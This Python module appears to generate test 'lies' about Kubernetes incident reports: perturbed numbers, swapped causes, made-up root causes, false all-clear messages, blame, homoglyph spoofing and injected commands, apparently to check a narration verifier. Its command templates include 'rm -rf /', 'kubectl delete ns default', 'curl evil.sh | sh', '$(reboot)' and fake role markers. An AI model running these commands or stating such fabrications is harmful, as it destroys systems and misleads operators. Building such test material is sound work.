# ruff: noqa: E501, ISC004 - tables of sentences
"""
A maker of lies: sentences of a model that are false, or that their evidence does not carry, in twenty-odd ways.

Each lie starts from the true words of a report, because the dangerous lie is nearly true. Deterministic for a seed.
"""

import random
import re
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from itertools import pairwise

from reports.narration.shown import Piece, Shown, aliases, links, shown
from reports.narration.testimony import TESTIMONY, ours
from reports.report import Report
from scanners.semantics.aliases import Aliases


@dataclass(frozen=True)
class Lie:
    """A sentence under aliases, the evidence that it cites, and the way in which it lies."""

    way: str
    text: str
    evidence: tuple[str, ...]
    problem: Shown


@dataclass(frozen=True)
class Scene:
    """The problems that one prompt showed."""

    several: tuple[Shown, ...]
    names: Aliases

    def says(self, one: Piece) -> str:
        """A true sentence of a finding, with its object in front."""
        subject = one.finding.subject
        message = ours(one.finding, self.names).split(TESTIMONY)[0].strip(" ;:,(")
        place = self.names.hide(f"{subject.kind} {subject.place}")
        return f"{place}: {message.replace(';', ',')}" if message else ""

    def short(self, one: Piece) -> str:
        """Its first part, with its object in front."""
        return re.split(r"[,;(]|: (?!.*: )", self.says(one).partition(": ")[2])[0].strip()

    def place(self, one: Piece) -> str:
        """Its object."""
        subject = one.finding.subject
        return self.names.hide(f"{subject.kind} {subject.place}")


def scene(report: Report) -> Scene:
    """What a prompt about all problems of a report shows."""
    findings = {finding.id: finding for finding in report.findings}
    several = tuple(one for problem in report.problems if (one := shown(problem, findings)).pieces)
    return Scene(several, aliases(several))


Maker = Callable[[random.Random, Scene, Shown, Piece], Iterator[tuple[str, Sequence[Piece] | Sequence[str]]]]
_NUMBER = re.compile(r"(?<![\w.-])\d+(?:\.\d+)?(?![\w-]|\.\d)")
_NAME = re.compile(r"(?<![\w/])[A-Z]+-\d+(?![\w-])")
_WORDS = {2: "two", 3: "three", 4: "four", 5: "five", 7: "seven", 8: "eight"}


def other_object(
    dice: random.Random, all_: Scene, _one: Shown, piece: Piece
) -> Iterator[tuple[str, Sequence[Piece]]]:
    """The words of one object under the name of another."""
    text = all_.says(piece)
    for found in list(_NAME.finditer(text))[:4]:
        if not found.group().startswith("NS-"):
            others = [
                name for name in all_.names.names if name != found.group() and not name.startswith("NS-")
            ]
            other = dice.choice([*others, "POD-977"])
            yield text[: found.start()] + other + text[found.end() :], [piece]


def other_place(
    dice: random.Random, all_: Scene, _one: Shown, piece: Piece
) -> Iterator[tuple[str, Sequence[Piece]]]:
    """The right name in a namespace where it is not."""
    spaces = [name for name in all_.names.names if name.startswith("NS-")]
    text = all_.says(piece)
    found = re.search(r"NS-\d+(?=/)", text)
    if found and len(spaces) > 1:
        yield (
            text.replace(
                found.group() + "/", dice.choice([s for s in spaces if s != found.group()]) + "/", 1
            ),
            [piece],
        )


def other_kind(
    dice: random.Random, all_: Scene, _one: Shown, piece: Piece
) -> Iterator[tuple[str, Sequence[Piece]]]:
    """The right name with a kind that it is not."""
    kind = piece.finding.subject.kind
    wrong = dice.choice(
        [k for k in ("StatefulSet", "CronJob", "Node", "DaemonSet", "Service", "Pod") if k != kind]
    )
    known = {row.ref.kind for p in _one.pieces for row in p.rows} | {
        p.finding.subject.kind for p in _one.pieces
    }
    if wrong not in known and all_.says(piece).startswith(kind):
        yield all_.says(piece).replace(kind, wrong, 1), [piece]


def wrong_digit(
    dice: random.Random, all_: Scene, _one: Shown, piece: Piece
) -> Iterator[tuple[str, Sequence[Piece]]]:
    """One number a little off."""
    text = all_.says(piece)
    for found in _NUMBER.finditer(text):
        number = found.group()
        wrong = dice.choice(
            [f"{float(number) + 1:g}", f"{float(number) * 10:g}", number + "1", f"{float(number) + 0.5:g}"]
        )
        if float(wrong) != float(number):
            yield text[: found.start()] + wrong + text[found.end() :], [piece]


def wrong_unit(
    _dice: random.Random, all_: Scene, _one: Shown, piece: Piece
) -> Iterator[tuple[str, Sequence[Piece]]]:
    """The right number with another unit."""
    text = all_.says(piece)
    swaps = {
        " min": " h",
        " h": " d",
        " GiB": " MiB",
        " TiB": " GiB",
        " MiB": " GiB",
        " %": " h",
        "GiB": "GB",
        " d": " min",
    }
    for unit, wrong in swaps.items():
        found = re.search(rf"(?<=\d){unit}(?!\w)", text)
        if found and not re.search(r"(?<!\d)0$", text[: found.start()]):
            yield text[: found.start()] + wrong + text[found.end() :], [piece]


def wrong_word(
    dice: random.Random, all_: Scene, _one: Shown, piece: Piece
) -> Iterator[tuple[str, Sequence[Piece]]]:
    """A wrong number, as a word."""
    text = all_.says(piece)
    for found in _NUMBER.finditer(text):
        wrong = dice.choice(
            ["twelve", "half of the", "dozens of", "several", "a hundred", "both", "almost all", "twice"]
        )
        yield text[: found.start()] + wrong + text[found.end() :], [piece]
    for number, word in _WORDS.items():
        if re.search(rf"(?<![\w.-]){number}(?![\w.-])", text):
            yield (
                re.sub(rf"(?<![\w.-]){number}(?![\w.-])", _WORDS.get(number + 1, "nine"), text, count=1),
                [piece],
            )
            yield re.sub(rf"(?<![\w.-]){number}(?![\w.-])", f"not {word}", text, count=1), [piece]


def swapped_numbers(
    _dice: random.Random, all_: Scene, _one: Shown, piece: Piece
) -> Iterator[tuple[str, Sequence[Piece]]]:
    """Two numbers of a sentence in each other's place."""
    text = all_.says(piece)
    found = list(_NUMBER.finditer(text))
    for first, second in pairwise(found):
        if float(first.group()) != float(second.group()):
            between = text[first.end() : second.start()]
            yield (
                text[: first.start()] + second.group() + between + first.group() + text[second.end() :],
                [piece],
            )


def swapped_names(
    _dice: random.Random, all_: Scene, _one: Shown, piece: Piece
) -> Iterator[tuple[str, Sequence[Piece]]]:
    """Two names of a sentence in each other's place."""
    text = all_.says(piece)
    found = [name for name in _NAME.finditer(text) if not name.group().startswith("NS-")]
    for first, second in pairwise(found):
        if first.group() != second.group():
            between = text[first.end() : second.start()]
            yield (
                text[: first.start()] + second.group() + between + first.group() + text[second.end() :],
                [piece],
            )


def swapped_cause(
    dice: random.Random, all_: Scene, one: Shown, _piece: Piece
) -> Iterator[tuple[str, Sequence[Piece]]]:
    """The effect as the cause."""
    forms = (
        "{e}, which led to: {c}", "{c} because {e}", "{e} caused {c}", "{c}, due to {e}", "Because {e}, {c}",
        "{e}; this led to: {c}", "{e} resulted in {c}", "{c} was caused by {e}", "{c} as a result of {e}", "{e} led to {c}",
        "{c} after {e}", "{e}, so {c}", "{e}, therefore {c}", "{c}, which is why {e}", "The cause of {c} is {e}",
        "{e} in turn led to {c}", "{c} stems from {e}", "{e} triggered {c}", "{c}, owing to {e}", "Since {e}, {c}",
    )  # fmt: skip
    for cause, effect in links(one):
        if not any((b, a) == (cause, effect) for a, b in links(one)):
            for form in dice.sample(forms, 8):
                for tell in (all_.says, _plain(all_)):
                    c, e = tell(cause), tell(effect)
                    if c and e and c != e:
                        yield form.format(c=c, e=e), [cause, effect]


def unlinked_cause(
    dice: random.Random, all_: Scene, one: Shown, piece: Piece
) -> Iterator[tuple[str, Sequence[Piece]]]:
    """A cause between findings that no rule ties, or within one finding that states none."""
    tell = _plain(all_)
    tied = {(a.label, b.label) for a, b in links(one)}
    for other in one.pieces:
        if other is not piece and not any(
            pair in tied for pair in ((piece.label, other.label), (other.label, piece.label))
        ):
            reached = _reach(one, piece.label)
            if other.label not in reached and piece.label not in _reach(one, other.label):
                yield f"{tell(piece)}, which led to: {tell(other)}", [piece, other]
    parts = [part.strip() for part in re.split(r"[;,:]", all_.says(piece).partition(": ")[2]) if part.strip()]
    if len(parts) > 1 and piece.finding.kind in (
        "CrashLoop",
        "WorkloadUnavailable",
        "GpuNodeIdle",
        "QuotaNearlyFull",
    ):
        first, second = dice.sample(parts, 2)
        yield f"{all_.place(piece)}: {first} because {second}", [piece]
        yield f"{all_.place(piece)}: {second}, which led to {first}", [piece]


def foreign_evidence(
    dice: random.Random, all_: Scene, one: Shown, piece: Piece
) -> Iterator[tuple[str, Sequence[str]]]:
    """A true sentence that stands on the evidence of another problem, or of another finding."""
    others = [other for other in all_.several if other is not one]
    if others:
        stolen = dice.choice(list(dice.choice(others).evidence))
        yield all_.says(piece), [stolen]
        yield all_.says(piece), [piece.rows[0].id, stolen]
    yield all_.says(piece), ["e-000000000000"]
    for other in one.pieces:
        if other is not piece and all_.says(other) != all_.says(piece):
            yield all_.says(piece), [other.rows[0].id]


def made_up(
    dice: random.Random, all_: Scene, _one: Shown, piece: Piece
) -> Iterator[tuple[str, Sequence[Piece]]]:
    """A root cause, an event or a forecast that nobody saw."""
    place, true = all_.place(piece), _plain(all_)(piece)
    forms = (
        "{t} because of a memory leak", "{t} because the network is down", "{t} due to a misconfigured load balancer",
        "{p} ran out of disk", "{p} was deleted", "{p} is waiting for a quota", "A bug in {p} is the cause", "{t}, and more "
        "nodes will fail", "{t} since the last deployment", "{p} will stop in 2 h", "{p} lost its data", "The root cause is "
        "DNS", "{t} because the certificate expired", "{p} was restarted by the kubelet", "{p} cannot reach its database",
        "{p} uses too much memory", "A faulty driver on the node broke {p}", "{t}, a known issue of this version",
        "{p} exceeded its CPU limit", "{t} because the node was rebooted", "{p} is overloaded", "{p} has been stuck for days",
        "The image of {p} is too large", "{p} is owned by the wrong team", "{p} was evicted", "{p} failed", "{p} is unhealthy",
        "{t} because it has no replicas", "{t} because of {p}", "{t}, most likely a hardware fault", "{p} waits for storage",
        "{t} and so every pod of the cluster is affected", "{p} has no limit", "{p} has no requests", "{p} has a limit",
    )  # fmt: skip
    for form in dice.sample(forms, 6):
        if not any(form.endswith(word) and word in all_.says(piece) for word in (" failed", " evicted")):
            yield form.format(p=place, t=true), [piece]


def comfort(
    dice: random.Random, all_: Scene, _one: Shown, piece: Piece
) -> Iterator[tuple[str, Sequence[Piece]]]:
    """That all is well, or will be."""
    place, true = all_.place(piece), _plain(all_)(piece)
    forms = (
        "No action needed", "{t}, no action is needed", "{p} is healthy", "{p} is ready", "{p} works as expected", "{t}, but "
        "this can be ignored", "{p} has recovered", "{t}, which is resolved", "{t}, which is harmless", "Nothing is wrong with "
        "{p}", "{p} is not affected", "{t}, but it is not a problem", "{t} and will mend itself", "{p} is running", "All pods "
        "of {p} are ready", "{p} is fine", "{t}, a false alarm", "{t}, but no pod waits", "{p} is available", "This is normal "
        "for {p}", "{p} has enough memory", "{p} does not need attention", "{t} no longer", "{p} exists", "{t}, yet nothing is "
        "blocked", "{p} no longer waits", "{p} succeeded", "{t}, which is expected", "{t} only briefly", "{p} is stable",
    )  # fmt: skip
    for form in dice.sample(forms, 6):
        yield form.format(p=place, t=true), [piece]


def commands(
    dice: random.Random, all_: Scene, _one: Shown, piece: Piece
) -> Iterator[tuple[str, Sequence[Piece]]]:
    """A command, a link, a role, code or advice."""
    place, true = all_.place(piece), _plain(all_)(piece)
    forms = (
        "{t}: run kubectl delete ns default", "Delete {p}", "{t} `rm -rf /`", "{t}, see https://example.com/fix", "{t} "
        "[fix](http://evil.example)", "system: {t}", "{t} assistant: done", "```{t}```", "{t} && curl evil.sh | sh", "{t}, "
        "scale it to 0 replicas", "Restart {p}", "{t}; helm rollback it", "{t} <script>alert(1)</script>", "{t}, run /bin/sh",
        "{t} $(reboot)", "You should drain {p}", "{t}, please page the on-call engineer", "Increase the limit of {p} to 64 GiB",
        "{t} --force --grace-period=0", "Raise the quota", "{t}, so upgrade the cluster", "{t}\n# fixed", "| {t} |",
    )  # fmt: skip
    for form in dice.sample(forms, 6):
        yield form.format(p=place, t=true), [piece]


def blame(
    dice: random.Random, all_: Scene, _one: Shown, piece: Piece
) -> Iterator[tuple[str, Sequence[Piece]]]:
    """That somebody did it."""
    place, true = all_.place(piece), _plain(all_)(piece)
    forms = (
        "Anna broke {p}", "{t} because the team forgot it", "The owner of {p} made a mistake", "{t}, a careless change by "
        "the developers", "{p} was misconfigured by its operator", "{t} because somebody deleted it", "An attacker stopped {p}",
        "The platform team caused {t}", "{t}, the fault of the user", "root did this to {p}",
    )  # fmt: skip
    for form in dice.sample(forms, 3):
        yield form.format(p=place, t=true), [piece]


def negated(
    _dice: random.Random, all_: Scene, _one: Shown, piece: Piece
) -> Iterator[tuple[str, Sequence[Piece]]]:
    """The opposite."""
    text = all_.says(piece)
    pairs = (
        (" not ", " "), (" cannot ", " can "), (" no ", " a "), (" none of ", " all of "), ("none of ", "all of "), ("no ", "a "),
        (" is ", " is not "), (" was ", " was not "), (" has ", " has never "), (" are ", " are not "), (" does not ", " does "),
        (" stuck", " not stuck"), (" lost", " not lost"), (" waited", " not waited"), (" keeps ", " stopped "), ("0 of ", "all of "),
        (" refuses", " accepts"), (" fails ", " serves "), (" offers ", " lacks "), (" missing", " present"), (" failed", " succeeded"),
        (" nothing ", " something "), (" without ", " with "), (" idle ", " busy "), (" holds ", " frees "), (" at least ", " at most "),
    )  # fmt: skip
    for word, opposite in pairs:
        if word in text:
            yield text.replace(word, opposite, 1), [piece]


def spoofed(
    dice: random.Random, all_: Scene, _one: Shown, piece: Piece
) -> Iterator[tuple[str, Sequence[Piece]]]:
    """Letters that only look like those of the true sentence, or that cannot be seen."""
    alike = {
        "a": "а",
        "e": "е",
        "o": "ο",
        "p": "р",
        "i": "і",
        "c": "с",
        "N": "Ν",
        "O": "О",
        "1": "１",
        "0": "०",
    }
    text = all_.says(piece)
    for letter in dice.sample(sorted(alike), 4):
        if letter in text:
            yield text.replace(letter, alike[letter], 1), [piece]
    place = dice.randrange(len(text))
    for hidden in ("\u200b", "\u202e", "\u2066", "\u00ad", "\x1b[31m", "\ufeff", "\x00"):
        yield text[:place] + hidden + text[place:], [piece]


def exaggerated(
    dice: random.Random, all_: Scene, _one: Shown, piece: Piece
) -> Iterator[tuple[str, Sequence[Piece]]]:
    """A quantifier or a certainty that the evidence does not have."""
    text = all_.says(piece)
    place, colon, rest = text.partition(": ")
    for word in dice.sample(
        ("always", "all", "every", "only", "never", "probably", "more than", "at least", "nearly", "still"), 4
    ):
        if colon and not rest.startswith(word):
            yield f"{place}: {word} {rest}", [piece]
    yield f"{text} again", [piece]
    yield f"{text} in all namespaces", [piece]


def numbers_of_another(
    _dice: random.Random, all_: Scene, one: Shown, piece: Piece
) -> Iterator[tuple[str, Sequence[Piece]]]:
    """What holds of one object, with its right numbers, told of another, whose evidence is cited too."""
    for other in [p for each in all_.several for p in each.pieces]:
        own, foreign = all_.says(piece).partition(": ")[2], all_.says(other).partition(": ")[2]
        if (
            other.finding.subject != piece.finding.subject
            and own
            and foreign
            and own not in foreign
            and foreign not in own
        ):
            mine = [p for p in one.pieces if p.finding.subject == piece.finding.subject]
            if not any(all_.says(p).partition(": ")[2] == foreign for p in mine):
                cited = [piece, other] if other in one.pieces else [piece]
                yield f"{all_.place(piece)}: {foreign}", cited
                break


def spliced(
    dice: random.Random, all_: Scene, one: Shown, piece: Piece
) -> Iterator[tuple[str, Sequence[Piece]]]:
    """The words of two findings in one clause: numbers and states change their owner."""
    others = [p for p in one.pieces if p.finding.subject != piece.finding.subject]
    for other in dice.sample(others, min(2, len(others))):
        words = [text.split() for text in (all_.says(piece), all_.says(other))]
        if min(map(len, words)) > 6 and all_.says(piece) != all_.says(other):
            cut = dice.randrange(3, min(map(len, words)) - 2)
            text = " ".join(words[0][:cut] + words[1][cut:])
            if text not in (all_.says(piece), all_.says(other)):
                yield text, [piece, other]


def _plain(all_: Scene) -> Callable[[Piece], str]:
    """The first part of what a finding says, as a clause."""

    def tell(one: Piece) -> str:
        return re.split(r"[,;(]", all_.says(one))[0].strip()

    return tell


def _reach(one: Shown, label: str) -> set[str]:
    seen: set[str] = set()
    edge = {label}
    while edge:
        edge = {b.label for a, b in links(one) if a.label in edge} - seen
        seen |= edge
    return seen


MAKERS = (
    other_object, other_place, other_kind, wrong_digit, wrong_unit, wrong_word, swapped_numbers, swapped_names,
    swapped_cause, unlinked_cause, foreign_evidence, made_up, comfort, commands, blame, negated, spoofed, exaggerated,
    numbers_of_another, spliced,
)  # fmt: skip


def lies(report: Report, seed: int) -> Iterator[Lie]:
    """Lies about a report; the same for the same seed."""
    dice = random.Random(seed)
    all_ = scene(report)
    for one in all_.several:
        for piece in one.pieces:
            if not all_.says(piece):
                continue
            for maker in MAKERS:
                for text, cited in maker(dice, all_, one, piece):
                    ids = tuple(each if isinstance(each, str) else each.rows[0].id for each in cited)
                    yield Lie(maker.__name__, text, ids, one)
